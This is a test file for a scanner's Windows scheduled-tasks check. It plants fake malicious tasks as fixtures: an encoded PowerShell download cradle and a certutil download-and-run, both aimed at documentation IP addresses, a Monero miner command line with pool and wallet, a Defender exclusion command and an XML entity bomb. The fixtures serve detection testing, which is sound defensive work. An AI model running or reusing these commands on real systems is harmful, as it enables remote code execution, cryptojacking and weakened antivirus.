/**
 * The Windows scheduled-tasks check on real task trees and planted ones: the 202 stock
 * tasks of a Windows 10 System32\Tasks raise nothing medium or above except the one
 * APTSimulator planted there (GameOver: Mimikatz from C:\TMP); the Server 2022 tasks
 * GameOver and falshupdate22 are found; planted tasks of each kind (UTF-16 and UTF-8 XML,
 * a miner run as SYSTEM from ProgramData, encoded PowerShell, a hidden downloader, a bare
 * program in a public working directory, legacy .job files) are found with their rules,
 * and damaged files become error entries while the scan goes on.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cp, readFile } from 'node:fs/promises';
import path from 'node:path';
import { ALL_CHECKS } from '../../src/checks/index.js';
import { windowsScheduledTasksCheck } from '../../src/checks/windows/scheduled-tasks.js';
import { parseJob } from '../../src/checks/parsers/task-job.js';
import { decodeTaskText, parseTaskXml } from '../../src/checks/parsers/task-xml.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { plantWindowsRoot, utf16, WINDOWS_SAMPLES, windowsSamplesPresent } from '../helpers/windows-samples.js';
import type { Finding } from '../../src/model/finding.js';
import { MountfsError } from '../../mountfs/errors.js';

const SAMPLES = windowsSamplesPresent();
const TASKS = '/Windows/System32/Tasks';
const serious = (f: Finding) => f.severity === 'critical' || f.severity === 'high' || f.severity === 'medium';

function taskXml({ command, args = '', workdir, user = 'S-1-5-18', hidden = false, uri }: { command: string; args?: string; workdir?: string; user?: string; hidden?: boolean; uri?: string }): string {
  const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return `<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo>${uri ? `<URI>${esc(uri)}</URI>` : ''}</RegistrationInfo>
  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger><LogonTrigger /></Triggers>
  <Principals><Principal id="Author"><UserId>${user}</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Enabled>true</Enabled><Hidden>${hidden}</Hidden></Settings>
  <Actions Context="Author">
    <Exec>
      <Command>${esc(command)}</Command>
      ${args ? `<Arguments>${esc(args)}</Arguments>` : ''}
      ${workdir ? `<WorkingDirectory>${esc(workdir)}</WorkingDirectory>` : ''}
    </Exec>
  </Actions>
</Task>
`;
}

/** A Task Scheduler 1.0 .job: the 68-byte fixed section, then the counted UTF-16 strings. */
function jobFile(application: string, parameters: string, workdir = '', flags = 0): Buffer {
  const fixed = Buffer.alloc(68);
  fixed.writeUInt16LE(0x0601, 0);
  fixed.writeUInt16LE(1, 2);
  fixed.writeUInt16LE(70, 20);
  fixed.writeUInt32LE(flags, 48);
  const str = (s: string) => {
    const chars = s === '' ? 0 : s.length + 1;
    const b = Buffer.alloc(2 + chars * 2);
    b.writeUInt16LE(chars, 0);
    if (chars) b.write(`${s}\0`, 2, 'utf16le');
    return b;
  };
  return Buffer.concat([fixed, Buffer.alloc(2), str(application), str(parameters), str(workdir), str('author'), str('')]);
}

const WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';

describe('Windows scheduled tasks', () => {
  let scratch: string;
  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-wintasks-');
    const encoded = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1')", 'utf16le').toString('base64');
    await plantWindowsRoot(path.join(scratch, 'planted'), {
      // A miner run as SYSTEM from ProgramData, in UTF-16 as Windows writes it.
      [`${TASKS}/Microsoft/Windows/Maintenance/SvcHostUpdate`]: utf16(
        taskXml({ command: 'C:\\ProgramData\\WindowsUpdate\\svchost.exe', args: `-o gulf.moneroocean.stream:10128 -u ${WALLET} --donate-level 1` }),
      ) as unknown as string,
      // Encoded PowerShell whose payload is a download cradle, in UTF-8 as a tool writes it.
      [`${TASKS}/OneDrive Sync Helper`]: taskXml({ command: 'powershell.exe', args: `-NoP -NonI -W Hidden -Enc ${encoded}`, user: 'CORP\\alice' }),
      // A hidden task outside \Microsoft\ that downloads with certutil.
      [`${TASKS}/GoogleUpdaterCore`]: taskXml({ command: 'cmd.exe', args: '/c certutil -urlcache -split -f http://198.51.100.3/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe', hidden: true, uri: '\\GoogleUpdaterCore' }),
      // A bare program name found through its working directory, a public folder; kills rival miners first.
      [`${TASKS}/Microsoft/Windows/Defrag/Cleanup`]: utf16(
        taskXml({ command: 'wuauclt.exe', args: '-c config.json', workdir: 'C:\\Users\\Public\\Libraries', user: 'SYSTEM' }),
      ) as unknown as string,
      [`${TASKS}/EdgeCleanup`]: taskXml({ command: 'cmd', args: '/c taskkill /f /im nanominer.exe & taskkill /f /im PhoenixMiner.exe & powershell Add-MpPreference -ExclusionPath C:\\ProgramData', user: 'S-1-5-18' }),
      // Legacy .job files: a miner in a profile's AppData, hidden.
      'Windows/Tasks/Adobe Flash Player Updater.job': jobFile('C:\\Users\\bob\\AppData\\Roaming\\Adobe\\xmrig.exe', '-c C:\\Users\\bob\\AppData\\Roaming\\Adobe\\c.json', '', 0x200),
      // Damaged: an entity bomb, a truncated document, a .job whose string runs past its end.
      [`${TASKS}/bomb`]: `<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><Task><Actions><Exec><Command>&b;</Command></Exec></Actions></Task>`,
      [`${TASKS}/truncated`]: utf16('<?xml version="1.0"?><Task><Actions><Exec><Command>C:\\x.exe</Comm'),
      'Windows/Tasks/broken.job': jobFile('C:\\x.exe', 'y').subarray(0, 80),
    });
    if (SAMPLES) {
      for (const tree of ['win10-aptsimulator', 'server2022-aptsimulator']) {
        await plantWindowsRoot(path.join(scratch, tree));
        await cp(path.join(WINDOWS_SAMPLES, 'tasks', tree), path.join(scratch, tree, TASKS), { recursive: true });
      }
    }
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it.skipIf(!SAMPLES)('raises nothing medium or above on the 202 stock Windows 10 tasks but the planted GameOver', async () => {
    const result = await scanDirectory(path.join(scratch, 'win10-aptsimulator'), ALL_CHECKS);
    expect(result.platform?.platform).toBe('windows');
    expect(result.errors).toEqual([]);
    expect(result.filesExamined).toBeGreaterThanOrEqual(202);
    const flagged = new Set(result.findings.filter(serious).map((f) => f.path));
    expect([...flagged]).toEqual([`${TASKS}/GameOver`]);
    const gameOver = result.findings.filter((f) => f.path === `${TASKS}/GameOver`).map((f) => f.rule);
    expect(gameOver).toEqual(expect.arrayContaining(['windows-command.credential-dumping', 'windows-command.started-from-temp']));
  });

  it.skipIf(!SAMPLES)('finds the Server 2022 tasks GameOver and falshupdate22', async () => {
    const result = await scanDirectory(path.join(scratch, 'server2022-aptsimulator'), [windowsScheduledTasksCheck]);
    const rules = (name: string) => result.findings.filter((f) => f.path === `${TASKS}/${name}` && serious(f)).map((f) => f.rule);
    expect(rules('GameOver')).toEqual(expect.arrayContaining(['windows-command.credential-dumping', 'windows-command.started-from-temp']));
    expect(rules('falshupdate22')).toEqual(['windows-command.powershell-hidden']);
    const falsh = result.findings.find((f) => f.path === `${TASKS}/falshupdate22`)!;
    expect(falsh.message).toContain('scheduled task \\falshupdate22');
    expect(falsh.message).toContain('runs as WIN-FUDU2CKJOE8\\Test');
    expect(falsh.remediation).toContain('schtasks /Delete /TN "\\falshupdate22" /F');
  });

  it.skipIf(!SAMPLES)('reads the legacy .job sample: its program, parameters and flags', async () => {
    const job = parseJob(await readFile(path.join(WINDOWS_SAMPLES, 'tasks/legacy-job/wintask.job')));
    expect(job).toMatchObject({ application: 'C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe', parameters: '/ua /installsource scheduler', hidden: false });
  });

  it('finds each planted task by its rules', async () => {
    const result = await scanDirectory(path.join(scratch, 'planted'), ALL_CHECKS);
    const rules = (rel: string) => result.findings.filter((f) => f.path === rel).map((f) => f.rule);
    expect(rules(`${TASKS}/Microsoft/Windows/Maintenance/SvcHostUpdate`)).toEqual(expect.arrayContaining(['command.miner', 'windows-task.system-user-writable']));
    expect(rules(`${TASKS}/OneDrive Sync Helper`)).toEqual(expect.arrayContaining(['windows-command.powershell-encoded', 'windows-command.powershell-hidden', 'windows-command.download-cradle']));
    expect(rules(`${TASKS}/GoogleUpdaterCore`)).toEqual(expect.arrayContaining(['windows-command.download-file', 'windows-task.hidden', 'windows-command.started-from-user-writable']));
    expect(rules(`${TASKS}/Microsoft/Windows/Defrag/Cleanup`)).toEqual(expect.arrayContaining(['windows-command.started-from-temp', 'windows-task.system-user-writable']));
    expect(rules(`${TASKS}/EdgeCleanup`)).toEqual(expect.arrayContaining(['windows-command.kill-miners', 'windows-command.defender-disabled']));
    expect(rules('/Windows/Tasks/Adobe Flash Player Updater.job')).toEqual(expect.arrayContaining(['windows-command.miner-program', 'command.started-miner', 'windows-task.hidden']));
    // The miner's pool and wallet reach the finding's indicators, for the block list.
    const miner = result.findings.find((f) => f.rule === 'command.miner')!;
    expect(miner.indicators?.pools).toEqual(expect.arrayContaining([expect.stringContaining('moneroocean')]));
    const found = result.findings.find((f) => f.rule === 'windows-task.system-user-writable' && f.path.endsWith('Cleanup'))!;
    expect(found.message).toContain('C:\\Users\\Public\\Libraries\\wuauclt.exe');
    expect(found.remediation).toContain("Remove-Item -Force -LiteralPath 'C:\\Users\\Public\\Libraries\\wuauclt.exe'");
    // Damaged files are errors naming them; the others were still judged.
    expect(result.errors.map((e) => [e.path, e.kind])).toEqual(
      expect.arrayContaining([
        [`${TASKS}/bomb`, 'corrupt'],
        [`${TASKS}/truncated`, 'corrupt'],
        ['/Windows/Tasks/broken.job', 'corrupt'],
      ]),
    );
    expect(result.errors).toHaveLength(3);
  });

  it.skipIf(!SAMPLES)('gives typed errors, never a crash, on damaged task XML and .job files', async () => {
    const xml = decodeTaskText(await readFile(path.join(WINDOWS_SAMPLES, 'tasks/server2022-aptsimulator/GameOver')));
    const job = await readFile(path.join(WINDOWS_SAMPLES, 'tasks/legacy-job/wintask.job'));
    let typed = 0;
    const attempt = (f: () => unknown) => {
      try {
        f();
      } catch (err) {
        expect(err).toBeInstanceOf(MountfsError);
        typed++;
      }
    };
    for (let n = 0; n < xml.length; n += 7) attempt(() => parseTaskXml(xml.slice(0, n)));
    for (let i = 0; i < xml.length; i += 11) attempt(() => parseTaskXml(`${xml.slice(0, i)}<${xml.slice(i + 1)}`));
    for (let n = 0; n < job.length; n++) attempt(() => parseJob(job.subarray(0, n)));
    for (let i = 0; i < job.length; i += 2) {
      const bad = Buffer.from(job);
      bad.writeUInt16LE(0xffff, i & ~1);
      attempt(() => parseJob(bad));
    }
    expect(typed).toBeGreaterThan(100);
  });

  it('decodes UTF-16LE and UTF-8 task text alike', () => {
    const xml = taskXml({ command: 'C:\\a b\\c.exe', args: 'x > y' });
    for (const bytes of [utf16(xml), Buffer.from(xml, 'utf8'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml)])]) {
      const task = parseTaskXml(decodeTaskText(bytes));
      expect(task).toMatchObject({ hidden: false, runAs: 'S-1-5-18', triggers: ['BootTrigger', 'LogonTrigger'], execs: [{ command: 'C:\\a b\\c.exe', arguments: 'x > y' }] });
    }
  });
});
